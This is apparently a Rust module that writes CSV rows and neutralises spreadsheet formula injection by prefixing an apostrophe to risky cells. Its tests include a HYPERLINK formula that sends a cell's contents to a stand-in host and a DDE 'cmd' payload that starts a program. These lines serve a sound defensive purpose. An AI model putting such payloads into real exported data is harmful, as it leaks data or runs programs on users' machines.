//! Comma-separated values, as RFC 4180 has them, for spreadsheets.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which can send what stands beside it
//! elsewhere, or start a program; quotes do not keep it from that. Titles of issues are anybody's, so such a cell gets an
//! apostrophe before it, which says that it is text. A number stays one.

use std::borrow::Cow;

use crate::error::{Kind, OrFail, Result};
use crate::sanitize;

/// What begins a formula; also in the wide form that some spreadsheets take for the same.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
/// What stands for nothing in cq's tables.
const NOTHING: &str = "-";

/// A line of cells.
pub(super) fn line<T: AsRef<str>>(cells: &[T]) -> Result<String> {
    let not_csv = || "cannot write the output as comma-separated values";
    let mut writer =
        csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
    let safe: Vec<String> = cells.iter().map(|cell| harmless(cell.as_ref()).into_owned()).collect();
    writer.write_record(&safe).or_fail(Kind::Internal, not_csv)?;
    let bytes = writer.into_inner().or_fail(Kind::Internal, not_csv)?;
    String::from_utf8(bytes).or_fail(Kind::Internal, not_csv)
}

/// A cell that is shown and not obeyed: by no spreadsheet, and by no terminal.
fn harmless(cell: &str) -> Cow<'_, str> {
    let shown = sanitize::line(cell);
    let begins_one = shown.trim_start().starts_with(FORMULA);
    if !begins_one || shown == NOTHING || is_number(&shown) {
        return shown;
    }
    Cow::Owned(format!("'{shown}"))
}

/// Digits with a sign and a fraction, and nothing that a parser of numbers would take besides (`-inf`, `+1e9`).
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let is_plain = |c: char| c.is_ascii_digit() || c == '.';
    digits.starts_with(|c: char| c.is_ascii_digit())
        && digits.chars().all(is_plain)
        && cell.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_where_they_have_to_be() {
        let cases: [(&[&str], &str); 5] = [
            (&["a", "b c", ""], "a,b c,\n"),
            (&["a,b", "say \"hi\""], "\"a,b\",\"say \"\"hi\"\"\"\n"),
            (&["two\nlines", "tab\there"], "two\\nlines,tab\\there\n"),
            (&["\u{1b}[31mred"], "\\e[31mred\n"),
            (&[""], "\"\"\n"),
        ];
        for (cells, expected) in cases {
            assert_eq!(line(cells).unwrap(), expected, "{cells:?}");
        }
    }

    #[test]
    fn no_cell_is_a_formula() {
        let cases = [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"https://e.example/?\"&A1,\"see\")",
                "'=HYPERLINK(\"https://e.example/?\"&A1,\"see\")",
            ),
            ("+1 for this", "'+1 for this"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("  =1+1", "'  =1+1"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("\t=1", "\\t=1"),
            ("\r=1", "\\r=1"),
            ("-inf", "'-inf"),
            ("-1e9", "'-1e9"),
            ("--1", "'--1"),
            ("a=b", "a=b"),
            ("-12.5", "-12.5"),
            ("-", "-"),
            ("12", "12"),
        ];
        for (cell, expected) in cases {
            assert_eq!(harmless(cell), expected, "{cell}");
        }
    }
}
